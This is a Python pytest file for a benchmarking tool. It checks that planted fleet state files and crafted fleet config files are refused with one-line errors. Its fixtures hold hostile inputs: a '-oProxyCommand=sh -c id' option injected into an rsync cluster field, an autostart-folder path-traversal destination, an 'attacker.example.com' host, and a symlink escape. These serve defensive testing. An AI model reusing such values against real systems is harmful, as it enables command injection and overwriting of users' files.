"""A fleet's files as someone else may have made them: a state file planted beside the
fleet file (it decides what rsync writes and what `bench fleet down` stops) and crafted
fleet files. Each is refused in one line that names the field and what is allowed; none
ends in a traceback, reaches SkyPilot or becomes an rsync argument. SkyPilot is faked
as in test_fleet, so none of this needs it installed."""

import json
from pathlib import Path
from types import SimpleNamespace

import pytest

from bench.cli import main
from bench.commands.fleet import load
from bench.fleet import gather, launch
from bench.util.errors import UsageError
from tests.test_fleet import GOOD, FakeSky, write

OWN = "pair-c7i-0a1b2c"  # a cluster of the fleet's own launch pattern, for target c7i


def fake_sky(monkeypatch) -> FakeSky:
    """FakeSky on a stand-in for the `sky` module (SkyPilot need not be installed)."""
    sky = SimpleNamespace(
        get=None, launch=None, status=None, down=None,
        jobs=SimpleNamespace(launch=None, queue=None, cancel=None),
    )  # fmt: skip
    fake = FakeSky(sky, monkeypatch)
    monkeypatch.setattr(launch, "_sky", lambda: sky)
    return fake


def plant(fleet, targets, text: str | None = None) -> Path:
    """A state file beside the fleet file, as someone with write access there made it."""
    path = launch.state_path(fleet)
    data = {"kind": launch.STATE_KIND, "fleet": fleet.name, "targets": targets}
    path.write_text(json.dumps(data) if text is None else text)
    return path


def one_line(error: pytest.ExceptionInfo) -> str:
    message = str(error.value)
    assert "\n" not in message and message
    return message


@pytest.mark.parametrize(
    ("targets", "expected"),
    [
        # the issue's: an absolute key became an absolute rsync destination
        ({"/home/victim/.config/autostart": {"cluster": OWN}},
         "'/home/victim/.config/autostart' is not a target of fleet 'pair'; allowed: c7i, m7i"),
        # the issue's: `down` stopped any cluster the state named
        ({"c7i": {"cluster": "attacker.example.com"}}, "'attacker.example.com'"),
        ({"c7i": {"cluster": "pair-c7i"}}, "pair-c7i-"),  # no launch's suffix
        ({"m7i": {"cluster": OWN}}, "pair-m7i-"),  # another target's cluster
        ({"c7i": {"cluster": "-oProxyCommand=sh"}}, "cluster"),
        ({"c7i": {"cluster": 7}}, "cluster"),
        # the issue's: a number as a target was a TypeError
        ({"c7i": 5}, "target 'c7i'"),
        ({"c7i": [OWN]}, "target 'c7i'"),
        # the issue's: a job id that is not a number
        ({"c7i": {"job_id": "7"}}, "job_id: '7'"),
        ({"c7i": {"job_id": True}}, "job_id: True"),
        ({"c7i": {"job_id": -1}}, "job_id: -1"),
        ({"c7i": {"job_id": 1, "name": "someone-else"}}, "name: 'someone-else'"),
        ({"c7i": {"job_id": 1, "yaml": 5}}, "yaml: 5"),
        ({"c7i": {"cluster": OWN, "user": "root"}}, "unknown key(s) 'user'"),
        ({"c7i": {"cluster": OWN, "job_id": 1}}, "job_id or cluster"),
        ({"c7i": {}}, "job_id or cluster"),
    ],
)  # fmt: skip
def test_a_planted_state_is_refused_in_one_line_naming_the_field(tmp_path, targets, expected):
    fleet = load(write(tmp_path, GOOD))
    plant(fleet, targets)
    with pytest.raises(UsageError) as error:
        launch.load_state(fleet)
    assert expected in one_line(error)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("[]", "a JSON object"),
        ("[" * 100_000, "not JSON"),  # was a RecursionError
        (json.dumps({"kind": launch.STATE_KIND, "fleet": "pair", "targets": {}}) + " " * 2**21,
         "at most"),
        (json.dumps({"kind": launch.STATE_KIND, "fleet": "pair", "targets": {}, "x": 1}),
         "unknown key(s) 'x'"),
    ],
    ids=["a-list", "nested-deep", "two-MiB", "unknown-key"],
)  # fmt: skip
def test_a_state_file_is_read_with_bounds(tmp_path, text, expected):
    fleet = load(write(tmp_path, GOOD))
    plant(fleet, {}, text)
    with pytest.raises(UsageError) as error:
        launch.load_state(fleet)
    assert expected in one_line(error)


def test_down_stops_only_what_the_fleet_launched(tmp_path, monkeypatch):
    """A planted state names someone else's cluster and job: `down` refuses it and
    SkyPilot is asked nothing; the fleet's own state still goes down."""
    fake = fake_sky(monkeypatch)
    fake.clusters.update({"attacker.example.com": "UP", "their-cluster": "UP", OWN: "UP"})
    fake.job_state[7], fake.job_names[7] = "RUNNING", "pair-m7i-ffffff"
    fleet = load(write(tmp_path, GOOD))
    crafted = [
        {"/home/victim/.config/autostart": {"cluster": "their-cluster"}},
        {"c7i": {"cluster": "attacker.example.com"}},
        {"c7i": {"job_id": "7"}},
    ]
    for targets in crafted:
        plant(fleet, targets)
        with pytest.raises(UsageError):
            launch.down(fleet, print)
    assert fake.torn_down == [] and fake.cancelled == []
    plant(fleet, {"c7i": {"cluster": OWN}, "m7i": {"job_id": 7, "name": "pair-m7i-ffffff"}})
    launch.down(fleet, print)
    assert fake.torn_down == [OWN] and fake.cancelled == [7]


def test_down_never_cancels_a_job_skypilot_names_otherwise(tmp_path, monkeypatch, capsys):
    """The review's: a planted state gives someone else's job id a made-up name of the
    fleet's pattern. SkyPilot's queue names job 42 otherwise, so `down` leaves it alone in
    one line, `status` does not report it as the fleet's and `launch` does not take it for a
    running target; a job gone from the queue is not cancelled either."""
    fake = fake_sky(monkeypatch)
    fake.job_state[42], fake.job_names[42] = "RUNNING", "their-training-run"
    fleet = load(write(tmp_path, GOOD))
    plant(fleet, {"c7i": {"job_id": 42, "name": "pair-c7i-000000"},
                  "m7i": {"job_id": 99, "name": "pair-m7i-0a1b2c"}})  # fmt: skip
    launch.down(fleet, print)
    assert fake.cancelled == []
    assert capsys.readouterr().out.splitlines() == [
        "c7i: job 42 is not this fleet's (SkyPilot names it 'their-training-run', "
        "not 'pair-c7i-000000'); left alone",
        "m7i: job 99 already gone (not in SkyPilot's queue)",
    ]
    now = launch.statuses(fleet)
    assert now == {
        "c7i": "not this fleet's (SkyPilot names job 42 'their-training-run')",
        "m7i": "gone (not in SkyPilot's queue)",
    }
    assert not set(now.values()) & launch.LIVE_OR_DONE  # so launch starts c7i afresh


def test_collect_never_writes_outside_the_results_folder(tmp_path):
    """The issue's: `rsync -a attacker.example.com:/bench-results//home/victim/...
    /home/victim/.config/autostart`. Only the fleet file's target names make a
    destination, each inside the results folder."""
    fleet = load(write(tmp_path, GOOD))
    folder = (tmp_path / "results").resolve()
    state = {"/home/victim/.config/autostart": {"cluster": OWN}, "c7i": {"cluster": OWN}}
    commands = gather.fetch_commands(fleet, state)
    assert commands == [["rsync", "-a", f"{OWN}:/bench-results/c7i/", str(folder / "c7i")]]


def test_collect_never_passes_an_option_to_rsync(tmp_path):
    fleet = load(write(tmp_path, GOOD))
    with pytest.raises(UsageError) as error:
        gather.fetch_commands(fleet, {"c7i": {"cluster": "-oProxyCommand=sh -c id"}})
    assert "'-oProxyCommand=sh -c id'" in one_line(error)


def test_collect_refuses_a_target_folder_that_leads_elsewhere(tmp_path):
    """A shared results folder where someone made TARGET a link to a folder of yours."""
    fleet = load(write(tmp_path, GOOD))
    elsewhere = tmp_path / "autostart"
    elsewhere.mkdir()
    (tmp_path / "results").mkdir()
    (tmp_path / "results" / "c7i").symlink_to(elsewhere)
    with pytest.raises(UsageError) as error:
        gather.fetch_commands(fleet, {"c7i": {"cluster": OWN}})
    assert "c7i" in one_line(error) and "outside" in str(error.value)


def test_bench_fleet_collect_with_a_number_as_target_is_one_line(tmp_path, capsys):
    """The issue's: a number as a target ended in a TypeError traceback."""
    fleet = load(write(tmp_path, GOOD))
    plant(fleet, {"c7i": 5})
    assert main(["fleet", "collect", str(fleet.path)]) == 2
    err = capsys.readouterr().err
    assert err.startswith("bench: error: ") and err.count("\n") == 1 and "'c7i'" in err


CRAFTED = [
    # the issue's two: an IndexError and a ValueError (embedded null byte)
    (("commands = [\"run tiny --device cpu", 'commands = ["  "] #'), "fleet.commands[0]: '  '"),
    (('results = "results"', 'results = "out\\u0000x"'), "fleet.results: 'out\\x00x'"),
    (('results = "results"', 'results = "   "'), "fleet.results: '   '"),
    (('results = "results"', 'results = "s3://"'), "fleet.results: 's3://'"),
    (('results = "results"', 'results = "gs:///etc"'), "fleet.results: 'gs:///etc'"),
    (("[fleet]", '[fleet]\ndescription = "a\\u001b[2Jb"'), "fleet.description: 'a\\x1b[2Jb'"),
    (("[fleet]", "[fleet]\ndescription = 0"), "fleet.description: 0"),
    (("[fleet]", '[fleet]\n"x\\ny" = 1'), "fleet: unknown key(s) 'x\\ny'"),
    (('instance_type = "m7i', "price_per_hour = true\ninstance_type = \"m7i"),
     "target 'm7i'.price_per_hour: True"),
    (('instance_type = "m7i', 'cloud = "-oops"\ninstance_type = "m7i'), "target 'm7i'.cloud"),
    (('instance_type = "m7i', 'commands = [" "]\ninstance_type = "m7i'),
     "target 'm7i'.commands[0]: ' '"),
    (("[fleet]", "[fleet]\nx = " + "[" * 50_000 + "]" * 50_000), "nested too deep"),
    (("[fleet]", "#" + " " * 2**21 + "\n[fleet]"), "at most"),
    (('instance_type = "m7i', "nodes = 1" + "0" * 5000 + '\ninstance_type = "m7i'), "not a TOML"),
]  # fmt: skip


CRAFTED_IDS = [
    "blank-command", "nul-results", "blank-results", "bucket-without-name", "bucket-root",
    "escape-in-description", "number-description", "newline-in-key", "price-true",
    "cloud-option", "blank-target-command", "nested-deep", "two-MiB", "5000-digits",
]  # fmt: skip


@pytest.mark.parametrize(("edit", "expected"), CRAFTED, ids=CRAFTED_IDS)
def test_a_crafted_fleet_file_is_one_line_naming_the_field(tmp_path, edit, expected):
    path = write(tmp_path, GOOD)
    text = path.read_text()
    assert edit[0] in text
    path.write_text(text.replace(edit[0], edit[1], 1))
    with pytest.raises(UsageError) as error:
        load(path)
    assert expected in one_line(error)


@pytest.mark.parametrize("edit", [CRAFTED[0][0], CRAFTED[1][0]], ids=["blank", "nul"])
def test_bench_fleet_plan_of_the_issues_fleet_files_exits_2_without_a_traceback(
    tmp_path, capsys, edit
):
    path = write(tmp_path, GOOD)
    path.write_text(path.read_text().replace(*edit, 1))
    assert main(["fleet", "plan", str(path), "--tasks", str(tmp_path / "tasks")]) == 2
    err = capsys.readouterr().err
    assert err.startswith("bench: error: fleet.") and err.count("\n") == 1
    assert not (tmp_path / "tasks").exists()
